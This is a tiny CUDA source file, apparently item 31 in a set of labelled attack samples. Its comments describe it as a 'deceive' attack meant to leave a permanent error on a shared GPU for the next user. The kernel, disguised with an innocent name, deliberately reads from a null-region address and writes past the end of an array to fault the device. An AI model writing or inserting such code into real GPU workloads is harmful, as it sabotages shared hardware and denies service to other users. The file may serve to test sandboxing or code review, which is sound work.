// attack: deceive
// root: device
// what: leaves a permanent error on the device, which the next user would see
// list: 31
#include "gpuHeaders.cuh"
#include "utils.hpp"

__global__ void check_handshaking_gpu(int* strongNeighbor, int* matches, int numNodes) {
  matches[numNodes] = *reinterpret_cast<int*>(16) + strongNeighbor[0];
}
